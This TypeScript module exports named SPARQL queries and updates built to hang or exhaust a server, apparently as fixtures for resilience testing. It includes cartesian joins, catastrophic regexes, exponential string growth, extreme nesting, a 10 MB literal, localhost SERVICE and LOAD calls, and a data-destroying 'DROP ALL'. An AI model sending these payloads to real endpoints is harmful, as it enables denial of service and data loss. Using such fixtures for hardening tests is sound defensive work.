/** Something that tries to hang or exhaust a server. */
export interface Attack {
  readonly name: string
  readonly kind: 'query' | 'update'
  readonly text: string
}

const many = (count: number, text: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => text(index)).join(' ')

const anything = '?s ?p ?o . ?a ?b ?c . ?d ?e ?f . ?g ?h ?i .'
const long = 'a'.repeat(60)
const nest = (count: number, open: string, close: string, inner = '') =>
  `${open.repeat(count)} ${inner} ${close.repeat(count)}`
const doubled = (count: number) =>
  `BIND("abcdefgh" AS ?t0) ${many(count, (index) => `BIND(CONCAT(?t${index}, ?t${index}) AS ?t${index + 1})`)}`

const queries: Readonly<Record<string, string>> = {
  'a cartesian product, counted': `SELECT (COUNT(*) AS ?n) { ${anything} }`,
  'a cartesian product, sorted': `SELECT * { ${anything} } ORDER BY ?o ?c ?f`,
  'a cartesian product, distinct': `SELECT DISTINCT ?s ?b ?f ?i { ${anything} }`,
  'a cartesian product, sent': `SELECT * { ${anything} }`,
  'a cartesian product, far away': `SELECT * { ${anything} } OFFSET 1000000000000 LIMIT 1`,
  'a cartesian product, constructed': `CONSTRUCT { ?s ?b ?i } { ${anything} }`,
  'a cartesian product, described': 'DESCRIBE ?s ?p ?o ?a ?c { ?s ?p ?o . ?a ?b ?c }',
  'a cartesian product, grouped': `SELECT ?s ?c (SAMPLE(?i) AS ?n) { ${anything} } GROUP BY ?s ?c ?f`,
  'a cartesian product of rows': `SELECT (COUNT(*) AS ?n) { ${many(4, (n) => `VALUES ?v${n} { ${many(5000, String)} }`)} }`,
  'a cartesian product, subtracted': `SELECT * { ${anything} MINUS { ${anything} } }`,
  'a test in a test in a test': `SELECT * { ?s ?p ?o ${many(6, (n) => `FILTER NOT EXISTS { ?a${n} ?b${n} ?c${n}`)} FILTER(?a0 = ?c5) ${'}'.repeat(6)} }`,
  'a path of stars in stars': 'SELECT (COUNT(*) AS ?n) { ?x ((!<urn:x>*)*|(^!<urn:x>*)*)* ?y }',
  'a path in both directions': 'SELECT * { ?x (<>|!<>|^<>)* ?y . ?y (<>|!<>)* ?z }',
  'a path of 2,000 steps': `SELECT * { ?x ${Array.from({ length: 2000 }, () => '(!<urn:x>|^!<urn:x>)').join('/')} ?y }`,
  'a regex without end': `SELECT * { BIND("${long}!" AS ?x) FILTER(REGEX(?x, "^(a+)+$")) }`,
  'a regex that looks back': `ASK { FILTER(REGEX("${long}!", "^(a*)*(a*)*(a*)*b")) }`,
  'a replacement without end': `SELECT (REPLACE("${long}!", "(a|a)*$", "b") AS ?x) {}`,
  '10,000 unions': `SELECT * { ${many(10_000, (n) => `${n > 0 ? 'UNION' : ''} { ?s ?p ?o }`)} }`,
  '2,000 optionals': `SELECT * { ?s ?p ?o ${many(2000, (n) => `OPTIONAL { ?s ?p${n} ?o${n} }`)} }`,
  '2,000 queries in queries': `SELECT * { ${nest(2000, '{ SELECT * {', '} }', '?s ?p ?o')} }`,
  'a list of 100,000': `SELECT * { ?s ?p ?o FILTER(?o IN (${Array.from({ length: 100_000 }, (_, n) => String(n)).join(', ')})) }`,
  'a group that is concatenated': `SELECT (GROUP_CONCAT(CONCAT(STR(?o), STR(?c)); SEPARATOR="${'-'.repeat(10_000)}") AS ?x) { ${anything} }`,
  'a text that is doubled': `SELECT (STRLEN(UCASE(?t32)) AS ?n) { ${doubled(32)} }`,
  'a text that is doubled and hashed': `SELECT (SHA512(ENCODE_FOR_URI(?t27)) AS ?n) { ${doubled(27)} }`,
  'deep nesting': `SELECT * ${nest(20_000, '{', '}', '?s ?p ?o')}`,
  'deep expressions': `ASK { FILTER(${nest(20_000, '(', ')', '1')}) }`,
  'deep lists': `SELECT * { ?s ?p ${nest(20_000, '(', ')', '1')} }`,
  'a text of 10 MB': `SELECT * { ?s ?p "${'x'.repeat(10_000_000)}" }`,
  'a query that calls the server': 'SELECT * { SERVICE <http://127.0.0.1/> { ?s ?p ?o } }',
}

const updates: Readonly<Record<string, string>> = {
  'an update that deletes all': 'DROP ALL',
  'an update that inserts without end': `INSERT { ?s ?b ?i } WHERE { ${anything} }`,
  'an update that loads': 'LOAD <http://127.0.0.1/>',
}

/** Ways to hang or exhaust a server, each by a query or update. */
export const attacks: readonly Attack[] = [
  ...Object.entries(queries).map(([name, text]) => ({ name, kind: 'query', text }) as const),
  ...Object.entries(updates).map(([name, text]) => ({ name, kind: 'update', text }) as const),
]
